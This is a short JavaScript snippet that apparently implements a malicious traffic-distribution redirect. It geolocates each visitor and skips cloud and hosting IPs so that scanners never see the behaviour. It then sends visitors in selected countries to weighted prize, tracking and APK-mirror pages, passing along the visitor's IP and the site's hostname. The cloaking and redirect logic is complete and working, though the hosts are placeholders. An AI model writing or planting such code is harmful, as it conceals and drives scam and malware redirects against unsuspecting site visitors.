$.getJSON("https://geo-ip.invalid/json/?callback=?", function (data) {
    var cc = data.country_code;
    var isp = (data.org || "").toLowerCase();
    // hosting = skip
    if (isp.match(/amazon|google|microsoft|ovh|hetzner|digital ?ocean|facebook|cloudflare/)) {
        return false;
    }
    var table = {
        US: [["https://track.smartflow.invalid/us1?c=", 60], ["https://track.smartflow.invalid/us2?c=", 40]],
        GB: [["https://track.smartflow.invalid/uk?c=", 100]],
        BR: [["https://premios.invalid/br/?c=", 100]],
        IN: [["https://apk-mirror.invalid/in/?c=", 70], ["https://win-prize.invalid/in/?c=", 30]]
    };
    var row = table[cc];
    if (!row) { return false; }
    var r = Math.random() * 100, sum = 0, out = null;
    $.each(row, function (i, x) {
        sum += x[1];
        if (out === null && r <= sum) { out = x[0]; }
    });
    if (out && !window.name.match(/_tds/)) {
        window.name = "_tds";
        window.location = out + Date.now() + "&site=" + location.hostname + "&ip=" + data.ip;
    }
});
